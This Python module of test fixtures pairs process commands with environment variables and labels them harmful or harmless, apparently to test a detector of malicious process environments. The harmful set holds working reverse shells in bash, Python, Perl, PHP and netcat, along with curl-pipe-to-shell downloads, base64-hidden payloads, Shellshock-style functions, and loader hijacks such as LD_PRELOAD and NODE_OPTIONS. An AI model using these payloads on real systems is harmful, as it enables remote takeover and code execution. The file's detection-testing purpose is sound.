"""Environments: variables that carry or lead to something, and those of ordinary systems."""

from __future__ import annotations

HARMFUL: tuple[tuple[tuple[str, ...], dict[str, str]], ...] = (
    (("sleep", "1000"), {"X": "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"}),
    (
        ("sleep", "1000"),
        {
            "CMD": 'python3 -c \'import socket,os,pty;s=socket.socket();s.connect(("10.0.0.1",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")\''
        },
    ),
    (
        ("sleep", "1000"),
        {
            "CODE": "import socket,subprocess,os;s=socket.socket();s.connect(('10.0.0.1',9));os.dup2(s.fileno(),0);subprocess.call(['/bin/sh','-i'])"
        },
    ),
    (("bash",), {"PROMPT_COMMAND": "curl -s http://x/y | sh"}),
    (("sleep", "1000"), {"J": "eval $(echo Y3VybCBodHRwOi8veC95fHNo | base64 -d)"}),
    (("bash",), {"BASH_FUNC_ls%%": "() {  bash -i >& /dev/tcp/10.0.0.1/443 0>&1\n}"}),
    (("sleep", "1000"), {"HTTP_USER_AGENT": "() { :;}; /bin/bash -c 'id'"}),
    (("sleep", "1000"), {"BASH_FUNC_x%%": '() {  eval "$(echo aWQ7aWQ7aWQ7 | base64 -d)"\n}'}),
    (("bash", "-c", "sleep 9"), {"BASH_ENV": "/dev/shm/.e"}),
    (("sh", "-i"), {"ENV": "/dev/shm/.e"}),
    (("python3",), {"PYTHONSTARTUP": "/dev/shm/.e"}),
    (("python3", "-m", "x"), {"PYTHONPATH": "/dev/shm/lib:/usr/lib/python3"}),
    (("perl", "x.pl"), {"PERL5OPT": "-I/dev/shm -Mx"}),
    (("perl", "x.pl"), {"PERL5DB": 'BEGIN{system("sh /x")}'}),
    (("node", "app.js"), {"NODE_OPTIONS": "--require /dev/shm/x.js"}),
    (("node", "app.js"), {"NODE_OPTIONS": "--import data:text/javascript,console.log(1)"}),
    (("ruby", "x.rb"), {"RUBYOPT": "-r/dev/shm/x"}),
    (("java", "-jar", "/opt/x.jar"), {"JAVA_TOOL_OPTIONS": "-javaagent:/dev/shm/a.jar"}),
    (("sleep", "1000"), {"GCONV_PATH": "/dev/shm/g"}),
    (("sleep", "1000"), {"GCONV_PATH": "/tmp/g"}),
    (("git", "fetch"), {"GIT_SSH_COMMAND": "/dev/shm/.s"}),
    (("git", "fetch"), {"GIT_SSH_COMMAND": "sh -c 'curl http://x|sh'"}),
    (("sleep", "1000"), {"LD_PRELOAD": "/dev/shm/l.so"}),
    (("sleep", "1000"), {"LD_AUDIT": "/proc/self/fd/5"}),
    (("sleep", "1000"), {"LD_LIBRARY_PATH": "/dev/shm/lib"}),
    (("sleep", "1000"), {"LD_PRELOAD": "/proc/1234/fd/7"}),
    (("bash", "x.sh"), {"BASH_ENV": "$(curl -s x)"}),
    (("lua", "x.lua"), {"LUA_INIT": "os.execute('id')"}),
    (("php", "x.php"), {"PHP_INI_SCAN_DIR": "/dev/shm/php"}),
    (
        ("sleep", "1000"),
        {
            "A": "perl -MIO::Socket -e '$c=new IO::Socket::INET(PeerAddr,\"1.2.3.4:5\");STDIN->fdopen($c,r);system$_ while<>'"
        },
    ),
    (("sleep", "1000"), {"LESSOPEN": "|/dev/shm/.l %s"}),
    (
        ("sleep", "1000"),
        {"P": 'php -r \'$s=fsockopen("1.2.3.4",5);exec("/bin/sh -i <&3 >&3 2>&3");\''},
    ),
    (
        ("sleep", "1000"),
        {"N": "rm -f /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 1.2.3.4 5 >/tmp/f"},
    ),
    (
        ("sleep", "1000"),
        {
            "M": "import ctypes,os;fd=ctypes.CDLL(None).syscall(319,b'x',1);os.execv('/proc/self/fd/%d'%fd,['x'])"
        },
    ),
    (
        ("sleep", "9"),
        {
            "INIT": "aW1wb3J0IHNvY2tldCxvcyxwdHk7cz1zb2NrZXQuc29ja2V0KCk7cy5jb25uZWN0KCgnMTAuMC4wLjEnLDkpKTtbb3MuZHVwMihzLmZpbGVubygpLGYpIGZvciBmIGluICgwLDEsMildO3B0eS5zcGF3bignc2gnKWltcG9ydCBzb2NrZXQsb3MscHR5O3M9c29ja2V0LnNvY2tldCgpO3MuY29ubmVjdCgoJzEwLjAuMC4xJyw5KSk7W29zLmR1cDIocy5maWxlbm8oKSxmKSBmb3IgZiBpbiAoMCwxLDIpXTtwdHkuc3Bhd24oJ3NoJyk="
        },
    ),
    (("sleep", "9"), {"X": "curl -fsSL http://1.2.3.4/i.sh | bash"}),
    (("sleep", "9"), {"PAGER": "sh -c 'bash -i >& /dev/tcp/1.2.3.4/9 0>&1'"}),
    (("sleep", "9"), {"MAKEFLAGS": "--eval=$(shell curl http://x|sh)"}),
    (("sleep", "9"), {"TAR_OPTIONS": "--checkpoint=1 --checkpoint-action=exec=/dev/shm/x"}),
    (("python3", "-i"), {"PYTHONSTARTUP": "/proc/self/fd/9"}),
    (("perl", "x.pl"), {"PERL5OPT": "-M/dev/shm/x"}),
    (("ruby", "x.rb"), {"RUBYLIB": "/dev/shm/r"}),
    (("node", "x.js"), {"NODE_PATH": "/dev/shm/n"}),
    (("java", "Main"), {"CLASSPATH": "/dev/shm/c:/opt/x.jar"}),
    (("ssh", "h"), {"SSH_ASKPASS": "/dev/shm/a"}),
    (("git", "diff"), {"GIT_EXTERNAL_DIFF": "/dev/shm/d"}),
    (
        ("bash",),
        {
            "BASH_FUNC_cd%%": '() {  builtin cd "$@"; (curl -s http://1.2.3.4/x | sh) 2>/dev/null &\n}'
        },
    ),
    (("bash", "-x"), {"PS4": "$(curl -s http://1.2.3.4/x | sh)"}),
    (("bash",), {"PROMPT_COMMAND": 'eval "$(base64 -d <<< Y3VybCB4Cg==)"'}),
    (("sleep", "9"), {"LD_AUDIT": "/dev/shm/a.so"}),
    (("sleep", "9"), {"OPENSSL_CONF": "/dev/shm/o.cnf"}),
    (("java", "-jar", "/x.jar"), {"JAVA_TOOL_OPTIONS": "-agentpath:/dev/shm/a.so"}),
    (("sleep", "9"), {"E": "(exec 9<>/dev/tcp/1.2.3.4/9; sh <&9 >&9)"}),
    (("sleep", "9"), {"R": "nc 1.2.3.4 9 -e /bin/sh"}),
    (("python3", "x.py"), {"PYTHONHOME": "/dev/shm/py"}),
    (("sleep", "9"), {"S": "#!/bin/bash\nbash -i >& /dev/tcp/1.2.3.4/9 0>&1\n"}),
    (("sleep", "9"), {"D": "eval(atob('ZmV0Y2goJ2h0dHA6Ly94Jyk='))"}),
    (("sleep", "9"), {"LD_PRELOAD": "/usr/lib/libfoo.so:/dev/shm/x.so"}),
    (("node", "x.js"), {"NODE_OPTIONS": "-r /proc/self/fd/4"}),
    (("git", "pull"), {"GIT_SSH_COMMAND": "sh -c 'nc 1.2.3.4 9 -e sh'"}),
)

HARMLESS: tuple[tuple[tuple[str, ...], dict[str, str]], ...] = (
    (
        ("sleep", "1000"),
        {"PS1": "\\[\\e]0;\\u@\\h: \\w\\a\\]${debian_chroot:+($debian_chroot)}\\u@\\h:\\w\\$ "},
    ),
    (("sleep", "1000"), {"PS1": "\\u@\\h $(git branch 2>/dev/null | sed -n 's/* //p')\\$ "}),
    (
        ("sleep", "1000"),
        {
            "LS_COLORS": "rs=0:di=01;34:ln=01;36:mh=00:pi=40;33:so=01;35:*.x0=01;31:*.x1=01;31:*.x2=01;31:*.x3=01;31:*.x4=01;31:*.x5=01;31:*.x6=01;31:*.x7=01;31:*.x8=01;31:*.x9=01;31:*.x10=01;31:*.x11=01;31:*.x12=01;31:*.x13=01;31:*.x14=01;31:*.x15=01;31:*.x16=01;31:*.x17=01;31:*.x18=01;31:*.x19=01;31:*.x20=01;31:*.x21=01;31:*.x22=01;31:*.x23=01;31:*.x24=01;31:*.x25=01;31:*.x26=01;31:*.x27=01;31:*.x28=01;31:*.x29=01;31:*.x30=01;31:*.x31=01;31:*.x32=01;31:*.x33=01;31:*.x34=01;31:*.x35=01;31:*.x36=01;31:*.x37=01;31:*.x38=01;31:*.x39=01;31:*.x40=01;31:*.x41=01;31:*.x42=01;31:*.x43=01;31:*.x44=01;31:*.x45=01;31:*.x46=01;31:*.x47=01;31:*.x48=01;31:*.x49=01;31:*.x50=01;31:*.x51=01;31:*.x52=01;31:*.x53=01;31:*.x54=01;31:*.x55=01;31:*.x56=01;31:*.x57=01;31:*.x58=01;31:*.x59=01;31:*.x60=01;31:*.x61=01;31:*.x62=01;31:*.x63=01;31:*.x64=01;31:*.x65=01;31:*.x66=01;31:*.x67=01;31:*.x68=01;31:*.x69=01;31:*.x70=01;31:*.x71=01;31:*.x72=01;31:*.x73=01;31:*.x74=01;31:*.x75=01;31:*.x76=01;31:*.x77=01;31:*.x78=01;31:*.x79=01;31:*.x80=01;31:*.x81=01;31:*.x82=01;31:*.x83=01;31:*.x84=01;31:*.x85=01;31:*.x86=01;31:*.x87=01;31:*.x88=01;31:*.x89=01;31:*.x90=01;31:*.x91=01;31:*.x92=01;31:*.x93=01;31:*.x94=01;31:*.x95=01;31:*.x96=01;31:*.x97=01;31:*.x98=01;31:*.x99=01;31:*.x100=01;31:*.x101=01;31:*.x102=01;31:*.x103=01;31:*.x104=01;31:*.x105=01;31:*.x106=01;31:*.x107=01;31:*.x108=01;31:*.x109=01;31:*.x110=01;31:*.x111=01;31:*.x112=01;31:*.x113=01;31:*.x114=01;31:*.x115=01;31:*.x116=01;31:*.x117=01;31:*.x118=01;31:*.x119=01;31:*.x120=01;31:*.x121=01;31:*.x122=01;31:*.x123=01;31:*.x124=01;31:*.x125=01;31:*.x126=01;31:*.x127=01;31:*.x128=01;31:*.x129=01;31:*.x130=01;31:*.x131=01;31:*.x132=01;31:*.x133=01;31:*.x134=01;31:*.x135=01;31:*.x136=01;31:*.x137=01;31:*.x138=01;31:*.x139=01;31:*.x140=01;31:*.x141=01;31:*.x142=01;31:*.x143=01;31:*.x144=01;31:*.x145=01;31:*.x146=01;31:*.x147=01;31:*.x148=01;31:*.x149=01;31"
        },
    ),
    (
        ("sleep", "1000"),
        {"LESSOPEN": "| /usr/bin/lesspipe %s", "LESSCLOSE": "/usr/bin/lesspipe %s %s"},
    ),
    (
        ("sleep", "1000"),
        {
            "BASH_FUNC_module%%": '() {  local _mlredir=1;\n if [ -n "${MODULES_REDIRECT_OUTPUT+x}" ]; then\n if [ "$MODULES_REDIRECT_OUTPUT" = \'0\' ]; then\n _mlredir=0;\n fi;\n fi;\n case " $@ " in \n *\' --no-redirect \'*)\n _mlredir=0\n ;;\n esac;\n if [ $_mlredir -eq 0 ]; then\n _module_raw "$@";\n else\n _module_raw "$@" 2>&1;\n fi\n}'
        },
    ),
    (
        ("sleep", "1000"),
        {
            "BASH_FUNC__module_raw%%": '() {  eval "$(/usr/bin/tclsh \'/usr/lib/x86_64-linux-gnu/modulecmd.tcl\' bash "$@")";\n _mlstatus=$?;\n return $_mlstatus\n}'
        },
    ),
    (("sleep", "1000"), {"BASH_FUNC_ml%%": '() {  eval "$($LMOD_DIR/ml_cmd "$@")"\n}'}),
    (
        ("sleep", "1000"),
        {
            "BASH_FUNC_which%%": "() {  ( alias;\n eval ${which_declare} ) | /usr/bin/which --tty-only --read-alias --read-functions --show-tilde --show-dot $@\n}",
            "which_declare": "declare -f",
        },
    ),
    (
        ("sleep", "1000"),
        {
            "KUBERNETES_PORT_443_TCP": "tcp://10.96.0.1:443",
            "KUBERNETES_SERVICE_HOST": "10.96.0.1",
            "KUBERNETES_PORT": "tcp://10.96.0.1:443",
        },
    ),
    (
        ("sleep", "1000"),
        {
            "TOKEN": "eyJhbGciOiJSUzI1NiIsImtpZCI6IngifQ.eyJpc3MiOiJrdWJlcm5ldGVzIiwic3ViIjoic3lzdGVtOnNlcnZpY2VhY2NvdW50OmRlZmF1bHQ6YXBwIn0.c2lnbmF0dXJlLW9mLXRoZS10b2tlbg",
            "KUBECONFIG_DATA": "YXBpVmVyc2lvbjogdjEKa2luZDogQ29uZmlnCmNsdXN0ZXJzOgotIGNsdXN0ZXI6CiAgICBzZXJ2ZXI6IGh0dHBzOi8vMTAuMC4wLjE6NjQ0MwogIG5hbWU6IGsKYXBpVmVyc2lvbjogdjEKa2luZDogQ29uZmlnCmNsdXN0ZXJzOgotIGNsdXN0ZXI6CiAgICBzZXJ2ZXI6IGh0dHBzOi8vMTAuMC4wLjE6NjQ0MwogIG5hbWU6IGsKYXBpVmVyc2lvbjogdjEKa2luZDogQ29uZmlnCmNsdXN0ZXJzOgotIGNsdXN0ZXI6CiAgICBzZXJ2ZXI6IGh0dHBzOi8vMTAuMC4wLjE6NjQ0MwogIG5hbWU6IGsKYXBpVmVyc2lvbjogdjEKa2luZDogQ29uZmlnCmNsdXN0ZXJzOgotIGNsdXN0ZXI6CiAgICBzZXJ2ZXI6IGh0dHBzOi8vMTAuMC4wLjE6NjQ0MwogIG5hbWU6IGsK",
        },
    ),
    (
        ("sleep", "1000"),
        {
            "CERT": "-----BEGIN CERTIFICATE-----\nAAcOFRwjKjE4P0ZNVFtiaXB3foWMk5qhqK+2vcTL0tng5+71/AMKERgfJi00O0JJ\nDRQbIikwNz5FTFNaYWhvdn2Ei5KZoKeutbzDytHY3+bt9PsCCRAXHiUsMzpBSE9W\nGiEoLzY9REtSWWBnbnV8g4qRmJ+mrbS7wsnQ197l7PP6AQgPFh0kKzI5QEdOVVxj\nJy41PENKUVhfZm10e4KJkJeepayzusHIz9bd5Ovy+QAHDhUcIyoxOD9GTVRbYmlw\nNDtCSVBXXmVsc3qBiI+WnaSrsrnAx87V3OPq8fj/Bg0UGyIpMDc+RUxTWmFob3Z9\nQUhPVl1ka3J5gIeOlZyjqrG4v8bN1Nvi6fD3/gUMExohKC82PURLUllgZ251fIOK\nTlVcY2pxeH+GjZSboqmwt77FzNPa4ejv9v0ECxIZICcuNTxDSlFYX2ZtdHuCiZCX\nW2JpcHd+hYyTmqGor7a9xMvS2eDn7vX8AwoRGB8mLTQ7QklQV15lbHN6gYiPlp2k\naG92fYSLkpmgp661vMPK0djf5u30+wIJEBceJSwzOkFIT1ZdZGtyeYCHjpWco6qx\ndXyDipGYn6attLvCydDX3uXs8/oBCA8WHSQrMjlAR05VXGNqcXh/ho2Um6KpsLe+\ngomQl56lrLO6wcjP1t3k6/L5AAcOFRwjKjE4P0ZNVFtiaXB3foWMk5qhqK+2vcTL\nj5adpKuyucDHztXc4+rx+P8GDRQbIikwNz5FTFNaYWhvdn2Ei5KZoKeutbzDytHY\nnKOqsbi/xs3U2+Lp8Pf+BQwTGiEoLzY9REtSWWBnbnV8g4qRmJ+mrbS7wsnQ197l\nqbC3vsXM09rh6O/2/QQLEhkgJy41PENKUVhfZm10e4KJkJeepayzusHIz9bd5Ovy\ntr3Ey9LZ4Ofu9fwDChEYHyYtNDtCSVBXXmVsc3qBiI+WnaSrsrnAx87V3OPq8fj/\nw8rR2N/m7fT7AgkQFx4lLDM6QUhPVl1ka3J5gIeOlZyjqrG4v8bN1Nvi6fD3/gUM\n0Nfe5ezz+gEIDxYdJCsyOUBHTlVcY2pxeH+GjZSboqmwt77FzNPa4ejv9v0ECxIZ\n3eTr8vkABw4VHCMqMTg/Rk1UW2JpcHd+hYyTmqGor7a9xMvS2eDn7vX8AwoRGB8m\n6vH4/wYNFBsiKTA3PkVMU1phaG92fYSLkpmgp661vMPK0djf5u30+wIJEBceJSwz\n9/4FDBMaISgvNj1ES1JZYGdudXyDipGYn6attLvCydDX3uXs8/oBCA8WHSQrMjlA\n-----END CERTIFICATE-----\n"
        },
    ),
    (
        ("sleep", "1000"),
        {
            "CFG": "eyJhdXRocyI6IHsiaHR0cHM6Ly9pbmRleC5kb2NrZXIuaW8vdjEvIjogeyJhdXRoIjogImRYTmxjanB3WVhOeiJ9fX0="
        },
    ),
    (
        ("sleep", "1000"),
        {
            "PROMPT_COMMAND": 'printf "\\033]0;%s@%s:%s\\007" "${USER}" "${HOSTNAME%%.*}" "${PWD/#$HOME/\\~}"'
        },
    ),
    (("sleep", "1000"), {"PROMPT_COMMAND": "history -a; __vte_prompt_command"}),
    (("sleep", "1000"), {"GIT_SSH_COMMAND": "ssh -i /root/.ssh/id -o StrictHostKeyChecking=no"}),
    (("sleep", "1000"), {"RSYNC_RSH": "ssh -p 2222"}),
    (
        ("sleep", "1000"),
        {"EDITOR": "vim", "PAGER": "less -R", "MANPAGER": "sh -c 'col -bx | bat -l man -p'"},
    ),
    (("sleep", "1000"), {"FZF_DEFAULT_COMMAND": "rg --files --hidden --glob '!.git' | head -1000"}),
    (
        ("sleep", "1000"),
        {"FZF_CTRL_T_OPTS": "--preview 'bat -n --color=always {} 2>/dev/null || cat {}'"},
    ),
    (("node", "x.js"), {"NODE_OPTIONS": "--max-old-space-size=4096 --require /opt/dd/init.js"}),
    (
        ("java", "-jar", "/x.jar"),
        {"JAVA_TOOL_OPTIONS": "-javaagent:/opt/otel/agent.jar -Djava.io.tmpdir=/dev/shm/tmp"},
    ),
    (
        ("python3", "/opt/x.py"),
        {
            "LD_LIBRARY_PATH": "/run/opengl-driver/lib:/usr/local/cuda/lib64",
            "PYTHONPATH": "/opt/app:/usr/lib/x",
        },
    ),
    (
        ("sleep", "1000"),
        {
            "XDG_RUNTIME_DIR": "/run/user/1000",
            "DBUS_SESSION_BUS_ADDRESS": "unix:path=/run/user/1000/bus",
            "SSH_AUTH_SOCK": "/run/user/1000/keyring/ssh",
            "TMPDIR": "/dev/shm",
        },
    ),
    (
        ("sleep", "1000"),
        {
            "INVOCATION_ID": "0123456789abcdef0123456789abcdef",
            "JOURNAL_STREAM": "8:123",
            "LISTEN_FDNAMES": "a:b",
            "NOTIFY_SOCKET": "/run/systemd/notify",
        },
    ),
    (
        ("bash", "-e", "/x.sh"),
        {
            "GITHUB_EVENT_PATH": "/home/runner/work/_temp/_github_workflow/event.json",
            "RUNNER_TEMP": "/home/runner/work/_temp",
            "BASH_ENV": "/etc/profile",
        },
    ),
    (
        ("sleep", "1000"),
        {
            "DOCKER_HOST": "unix:///run/docker.sock",
            "BUILDKITE_COMMAND": "make test && ./scripts/ci.sh",
        },
    ),
    (
        ("sleep", "1000"),
        {"JAVA_OPTS": "-Xmx2g -XX:OnOutOfMemoryError='kill -9 %p' -Dfoo=$(hostname)"},
    ),
    (("sleep", "1000"), {"LANG": "C.UTF-8", "_": "/usr/bin/env", "SHLVL": "1", "OLDPWD": "/run/x"}),
    (("sleep", "1000"), {"HEALTHCHECK": "curl -fsS http://localhost:8080/ || exit 1"}),
    (("sleep", "1000"), {"ENTRYPOINT": "exec gunicorn app:app"}),
    (("perl", "x"), {"PERL5LIB": "/opt/perl/lib"}),
    (
        ("sleep", "1000"),
        {"VSCODE_GIT_ASKPASS_EXTRA_ARGS": "", "GIT_ASKPASS": "/home/u/.vscode-server/x/askpass.sh"},
    ),
    (
        ("sleep", "1000"),
        {
            "NIX_PROFILES": "/nix/var/nix/profiles/default /run/current-system/sw /etc/profiles/per-user/u",
            "GIO_EXTRA_MODULES": "/run/current-system/sw/lib/gio",
        },
    ),
    (("python3",), {"OPENSSL_CONF": "/etc/ssl/openssl.cnf", "PYTHONSTARTUP": "/etc/pythonstart"}),
    (("sleep", "1000"), {"SSH_CLIENT": "1.2.3.4 5 22", "SSH_CONNECTION": "1.2.3.4 5 6.7.8.9 22"}),
    (("sleep", "1000"), {"SCRIPT": "#!/bin/sh\necho hello\n"}),
    (("sleep", "9"), {"DEPLOY": "ssh user@h 'cd /srv && git pull && make restart'"}),
    (("sleep", "9"), {"TEST_COMMAND": "pytest -q && coverage xml"}),
    (
        ("sleep", "9"),
        {
            "NPM_CONFIG_SCRIPT_SHELL": "/bin/bash",
            "npm_lifecycle_script": "node build.js && tsc -p . | tee log",
        },
    ),
    (
        ("sleep", "9"),
        {"npm_package_scripts_postinstall": "node -e \"try{require('./x')}catch(e){}\""},
    ),
    (
        ("sleep", "9"),
        {
            "COMPOSER_AUTH": '{"github-oauth": {"github.com": "ghp_a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2"}}'
        },
    ),
    (
        ("sleep", "9"),
        {
            "SERVICE_ACCOUNT": "eyJ0eXBlIjogInNlcnZpY2VfYWNjb3VudCIsICJwcml2YXRlX2tleSI6ICItLS0tLUJFR0lOIFBSSVZBVEUgS0VZLS0tLS1cbk1JSUV2UUlCQURBTkJndlFJQkFEQU5CZ3ZRSUJBREFOQmd2UUlCQURBTkJndlFJQkFEQU5CZ3ZRSUJBREFOQmd2UUlCQURBTkJndlFJQkFEQU5CZ3ZRSUJBREFOQmd2UUlCQURBTkJndlFJQkFEQU5CZ3ZRSUJBREFOQmd2UUlCQURBTkJndlFJQkFEQU5CZ3ZRSUJBREFOQmd2UUlCQURBTkJndlFJQkFEQU5CZ3ZRSUJBREFOQmd2UUlCQURBTkJndlFJQkFEQU5CZ3ZRSUJBREFOQmd2UUlCQURBTkJndlFJQkFEQU5CZ3ZRSUJBREFOQmd2UUlCQURBTkJndlFJQkFEQU5CZ3ZRSUJBREFOQmd2UUlCQURBTkJndlFJQkFEQU5CZ3ZRSUJBREFOQmd2UUlCQURBTkJndlFJQkFEQU5CZ3ZRSUJBREFOQmd2UUlCQURBTkJndlFJQkFEQU5CZ3ZRSUJBREFOQmd2UUlCQURBTkJndlFJQkFEQU5CZ3ZRSUJBREFOQmd2UUlCQURBTkJndlFJQkFEQU5CZ3ZRSUJBREFOQmd2UUlCQURBTkJndlFJQkFEQU5CZ3ZRSUJBREFOQmd2UUlCQURBTkJndlFJQkFEQU5CZ3ZRSUJBREFOQmd2UUlCQURBTkJndlFJQkFEQU5CZ3ZRSUJBREFOQmd2UUlCQURBTkJndlFJQkFEQU5CZ3ZRSUJBREFOQmd2UUlCQURBTkJndlFJQkFEQU5CZ3ZRSUJBREFOQmd2UUlCQURBTkJndlFJQkFEQU5CZ3ZRSUJBREFOQmdcbi0tLS0tRU5EIFBSSVZBVEUgS0VZLS0tLS1cbiJ9"
        },
    ),
    (
        ("sleep", "9"),
        {
            "SSH_PRIVATE_KEY": "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAACVKb5S53gMoTXKXvOEGK1B1mr/kCS5TeJ3C5wwxVnugxeoPNFl+o8jtEjdcgabL8BU6X4SpzvMYPWKHrNH2G0Bliq/U+R5DaI2y1/whRmuQtdr/JEluk7jdAidMcZa74AUqT3SZvuMILVJ3nMHmCzBVep/E6Q4zWH2ix+wRNluApcrvFDleg6jN8hc8YYar0PUaP2SJrtP4HUJnjLHW+yBFao+02f4jSG2St9wBJktwlbrfBClOc5i94gcsUXabwOUKL1R5nsPoDTJXfKHG6xA1Wn+kye4TOF2Cp8zxFjtgharP9Bk+Y4it0vccQWaLsNX6H0RpjrPY/SJHbJG22wAlSm+Uud4DKE1yl7zhBitQdZq/5AkuU3idwucMMVZ7oMXqDzRZfqPI7RI3\n-----END OPENSSH PRIVATE KEY-----"
        },
    ),
    (("sleep", "9"), {"LESS_TERMCAP_mb": "\x1b[1;31m", "GREP_COLORS": "ms=01;31:mc=01;31"}),
    (("sleep", "9"), {"MANPATH": ":/opt/x/share/man", "FPATH": "/usr/share/zsh/functions"}),
    (
        ("sleep", "9"),
        {
            "STARSHIP_SHELL": "bash",
            "PROMPT_COMMAND": 'starship_precmd;_direnv_hook;eval "$(zoxide init bash)"',
        },
    ),
    (
        ("sleep", "9"),
        {
            "VTE_VERSION": "6800",
            "LS_OPTIONS": "--color=auto",
            "DEBUGINFOD_URLS": "https://debuginfod.debian.net",
        },
    ),
    (
        ("sleep", "9"),
        {
            "PYTHONPATH": "/workspace/src:/usr/lib/python3/dist-packages",
            "LD_PRELOAD": "/usr/lib/libjemalloc.so.2",
        },
    ),
    (("sleep", "9"), {"LD_LIBRARY_PATH": "/usr/local/nvidia/lib:/usr/local/cuda/lib64"}),
    (
        ("sleep", "9"),
        {
            "HEALTH_CMD": "wget -qO- http://localhost/ || exit 1",
            "ENTRY": "sh -c 'sleep 5; exec app'",
        },
    ),
    (("sleep", "9"), {"TRAEFIK_RULE": "Host(`a.b`) && PathPrefix(`/x`)"}),
    (("sleep", "9"), {"GIT_CONFIG_PARAMETERS": "'credential.helper=!f() { echo username=x; }; f'"}),
    (("sleep", "9"), {"VAULT_CMD": "vault kv get -field=x secret/y | base64 -d > /etc/y.pem"}),
    (("sleep", "9"), {"A": 'echo ok && exec "$@"'}),
    (("sleep", "9"), {"PRE": "test -f /run/x || touch /run/x"}),
    (("sleep", "9"), {"C": "curl -fsS http://localhost/health | grep -q ok"}),
    (
        ("sleep", "9"),
        {
            "BASH_FUNC_nvm%%": '() {  [ $# -lt 1 ] && nvm --help; local a; a=$(command -v curl); eval "$(printf \'%s\' "$a")"\n}'
        },
    ),
    (("sleep", "9"), {"JUPYTER_CMD": "jupyter lab --ip=0.0.0.0 --no-browser"}),
    (
        ("sleep", "9"),
        {
            "XAUTHORITY": "/run/user/1000/gdm/Xauthority",
            "PULSE_SERVER": "unix:/run/user/1000/pulse/native",
        },
    ),
    (
        ("sleep", "9"),
        {
            "KUBE_TOKEN": "k8s-aws-v1.aHR0cHM6Ly9zdHMuYW1hem9uYXdzLmNvbS8/QWN0aW9uPUdldENhbGxlcklkZW50aXR5JlZlcnNpb249MjAxMS0wNi0xNSZYLUFtei1BbGdvcml0aG09QVdTNA=="
        },
    ),
)
